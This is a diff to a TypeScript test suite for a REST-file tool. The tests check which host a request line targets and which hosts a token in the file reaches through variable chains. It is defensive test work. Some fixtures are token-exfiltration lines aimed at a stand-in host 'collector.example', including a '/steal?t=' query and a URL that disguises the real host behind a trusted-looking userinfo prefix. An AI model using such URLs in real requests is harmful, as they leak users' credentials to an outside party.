@@ -4,7 +4,7 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import * as fc from 'fast-check';
-import { isSameSite, requestHostsAt, requestLineHost } from '../../src/core/restFile/requestHost';
+import { isSameSite, receivingHostsAt, requestHostsAt, requestLineHost, requestsUsingVariable } from '../../src/core/restFile/requestHost';
 import { parseRestFile } from '../../src/core/restFile/requestParser';
 import { CORPUS, corpusFiles } from './corpus';
 
@@ -21,6 +21,15 @@ describe('the host a request goes to', () => {
 		['GET /v1/relative', undefined],
 		['GET http://[::1]:8080/x', '::1'],
 		['GET not a url', undefined],
+		// A reference the file cannot fill, after the host: the host is still known.
+		['GET https://collector.example/steal?t={{unknownEnv}}', 'collector.example'],
+		['GET {{evil}}/{{unknownEnv}}', 'collector.example'],
+		['GET https://user.telematicssdk.com@collector.example/{{unknownEnv}}', 'collector.example'],
+		['GET https://collector.example\\{{unknownEnv}}', 'collector.example'],
+		['GET https://collector.example#{{unknownEnv}}', 'collector.example'],
+		// ...inside the host, it is not.
+		['GET https://collector{{unknownEnv}}.example/x', undefined],
+		['GET https://{{unknownEnv}}/x', undefined],
 	];
 	for (const [line, host] of cases) it(`${line} → ${host ?? 'not said'}`, () => assert.equal(requestLineHost(line, variables), host));
 
@@ -32,6 +41,80 @@ describe('the host a request goes to', () => {
 
 	it('a variable that refers to itself is not followed forever', () => {
 		assert.equal(requestLineHost('GET {{a}}/x', new Map([['a', '{{a}}']])), undefined);
+	});
+});
+
+describe('the hosts a token in the file reaches', () => {
+	const FILE = [
+		'@telematicsToken = eyJ.token.sig',
+		'@auth = Bearer {{telematicsToken}}',
+		'@header = {{ auth }}',
+		'@telematicsTokenOld = unrelated',
+		'',
+		'### reads the variable through two others',
+		'GET https://collector.example/a',
+		'Authorization: {{header}}',
+		'',
+		'### reads it directly, in the body',
+		'POST https://user.telematicssdk.com/v1/x',
+		'',
+		'{"t": "{{telematicsToken}}"}',
+		'',
+		'### an httpYac expression naming it',
+		'GET https://script.example/?t={{ telematicsToken.slice(0) }}',
+		'',
+		'### a longer name that only starts like it',
+		'GET https://old.example/{{telematicsTokenOld}}',
+		'',
+		'### a token of its own, in the query',
+		'GET https://query.example/?access_token=eyJ.other.sig',
+		'',
+		'### nothing of it',
+		'GET https://quiet.example/',
+		'',
+	].join('\n');
+	const file = parseRestFile(FILE);
+
+	it('a token in a file variable reaches every request that reads it, however indirectly', () => {
+		assert.deepEqual(receivingHostsAt(file, [FILE.indexOf('eyJ.token')]), ['collector.example', 'user.telematicssdk.com', 'script.example']);
+	});
+
+	it('a token in a request reaches that request only', () => {
+		assert.deepEqual(receivingHostsAt(file, [FILE.indexOf('eyJ.other')]), ['query.example']);
+	});
+
+	it('a variable that reads itself, or two that read each other, end the search', () => {
+		const loop = parseRestFile('@a = {{b}}\n@b = {{a}}\n\n###\nGET https://x.example/{{a}}\n');
+		assert.equal(requestsUsingVariable(loop, 'b').length, 1);
+	});
+
+	it('follows a chain of variables of any length to the request at its end, and never a name that only starts the same (generated)', () => {
+		const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,8}$/);
+		fc.assert(fc.property(name, fc.integer({ min: 0, max: 12 }), fc.constantFrom('', ' ', '  '), (token, depth, pad) => {
+			const chain = Array.from({ length: depth }, (_, i) => `@v${i}_${token} = x {{${pad}${i === 0 ? token : `v${i - 1}_${token}`}${pad}}} y`);
+			const last = depth === 0 ? token : `v${depth - 1}_${token}`;
+			const text = [`@${token} = eyJ.a.b`, ...chain, `@${token}2 = {{${token}x}}`, '', '###', 'GET https://end.example/', `X-Token: {{${last}}}`, '', '###', 'GET https://near.example/', `X-Token: {{${token}2}}`, ''].join('\n');
+			assert.deepEqual(receivingHostsAt(parseRestFile(text), [text.indexOf('eyJ')]), ['end.example']);
+		}), { numRuns: 200 });
+	});
+
+	it('over the real corpus: a request whose block holds {{name}} is always among those that read name', () => {
+		if (!fs.existsSync(CORPUS)) assert.fail(`${CORPUS} is missing`);
+		let checked = 0;
+		for (const fileName of corpusFiles()) {
+			const parsed = parseRestFile(fs.readFileSync(path.join(CORPUS, fileName), 'utf8'));
+			for (const variable of parsed.variables) {
+				const readers = new Set(requestsUsingVariable(parsed, variable.name).map((r) => r.requestLine));
+				for (const request of parsed.requests) {
+					const block = parsed.lines.slice(request.requestLine, request.blockEnd + 1).map((l) => l.text).join('\n');
+					if (block.includes(`{{${variable.name}}}`)) {
+						checked++;
+						assert.ok(readers.has(request.requestLine), `${fileName}: the request on line ${request.requestLine + 1} reads {{${variable.name}}}`);
+					}
+				}
+			}
+		}
+		assert.ok(checked > 100, `only ${checked} uses of a file variable read`);
 	});
 });
 
